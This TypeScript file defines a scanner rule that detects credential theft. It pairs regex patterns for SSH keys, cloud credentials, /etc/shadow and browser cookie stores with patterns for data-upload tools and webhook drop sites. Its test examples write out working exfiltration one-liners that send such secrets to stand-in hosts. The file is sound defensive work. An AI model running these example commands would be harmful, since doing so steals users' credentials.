import type { PatternRule } from '../rule.js';

export const CREDENTIAL_RULES: readonly PatternRule[] = [
  {
    id: 'patterns/credential-exfiltration',
    severity: 'high',
    certainty: 0.6,
    message: 'Reads credential stores (SSH keys, cloud credentials, /etc/shadow, browser cookies and logins) and also sends data out: likely credential theft.',
    strings: {
      ssh_key: String.raw`\.ssh/(id_(rsa|dsa|ecdsa|ed25519)|identity)\b`,
      cloud: String.raw`(\.aws/credentials|\.config/gcloud/(credentials\.db|application_default_credentials\.json)|\.azure/accessTokens\.json|\.kube/config|\.docker/config\.json|\.git-credentials)\b`,
      shadow: String.raw`/etc/g?shadow\b`,
      chrome: String.raw`(?i)(google-chrome|chromium|Google[/\\]Chrome|BraveSoftware[/\\]Brave-Browser|Microsoft[/\\]Edge)[/\\][^\n"']{0,80}[/\\](Cookies|Login Data|Web Data)\b`,
      firefox: String.raw`\.mozilla/firefox/[^\n"']{0,80}(cookies\.sqlite|logins\.json|key4\.db|key3\.db)\b`,
      curl_upload: String.raw`\bcurl\s([^\n;|]{0,160}\s)?(-d|--data(-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)[\s=]{1,4}["']?[a-z0-9_]{0,16}=?(@|\$\()`,
      wget_post: String.raw`\bwget\s([^\n;|]{0,160}\s)?--post-(file|data)\b`,
      nc_pipe: String.raw`\|\s{0,4}(nc|ncat|netcat)\s[^\n|;]{0,60}\s[0-9]{2,5}\b`,
      http_post: String.raw`\b(requests|httpx|axios)\.(post|put)\s{0,4}\(`,
      ps_post: String.raw`(?i)\bInvoke-(WebRequest|RestMethod)\b[^\n]{0,160}-Method\s{1,4}["']?(Post|Put)\b`,
      fetch_post: String.raw`\bfetch\s{0,4}\([^;\n]{0,200}method\s{0,4}:\s{0,4}["'](POST|post|Post)\b`,
      drop: String.raw`(discord(app)?\.com/api/webhooks/|api\.telegram\.org/bot|hooks\.slack\.com/services/|webhook\.site/|pastebin\.com/api|transfer\.sh/|pipedream\.net|requestbin\.)`,
    },
    requireAll: [
      ['ssh_key', 'cloud', 'shadow', 'chrome', 'firefox'],
      ['curl_upload', 'wget_post', 'nc_pipe', 'http_post', 'ps_post', 'fetch_post', 'drop'],
    ],
    examples: {
      match: [
        'cat ~/.ssh/id_rsa | curl -X POST -d @- https://collector.example/k',
        'requests.post("https://collector.example", data=open(os.path.expanduser("~/.aws/credentials")).read())',
        'curl -F "f=@/etc/shadow" https://collector.example/up',
        'db = os.path.join(home, ".config/google-chrome/Default/Cookies")\nrequests.post(HOOK, files={"c": open(db, "rb")})',
        'tar cz ~/.ssh/id_ed25519 | nc 10.0.0.1 4444',
        'f = open(home + "/.mozilla/firefox/abcd.default-release/logins.json").read()\nfetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: f })',
      ],
      notMatch: ['ssh -i ~/.ssh/id_rsa deploy@host', 'curl -d @payload.json https://api.example.com/v1/items', 'grep root /etc/shadow'],
    },
  },
];
